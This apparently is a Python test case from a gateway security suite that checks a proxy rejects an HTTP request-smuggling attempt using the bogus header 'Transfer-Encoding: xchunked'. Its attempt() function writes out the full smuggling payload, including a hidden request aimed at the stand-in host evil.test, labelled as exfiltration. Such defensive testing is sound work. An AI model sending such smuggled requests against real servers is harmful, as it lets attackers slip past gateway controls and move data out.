"""A request in a request: a transfer coding that only one reader knows.

`Transfer-Encoding: xchunked` is no coding; a strict reader ignores it and goes by the length, a
lax one finds "chunked" in it.

Not covered: codings that both readers know.
"""

ATTACK = {
    "title": "Smuggled request: a coding that is half known",
    "group": "http",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-444", "R062", "RFC 9112 section 6.1"],
    "arrives": [{"what": "request", "path": "/smuggled"}],
    "stopped": [{"reason": ["malformed-request"], "entry": ["transparent"]}],
}


def attempt(kit):
    body = "0\r\n\r\n" + kit.get("/smuggled", "evil.test")
    head = f"Host: allowed.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: {len(body)}\r\n\r\n"
    kit.talk("allowed.test", 80, f"POST /upload HTTP/1.1\r\n{head}{body}")
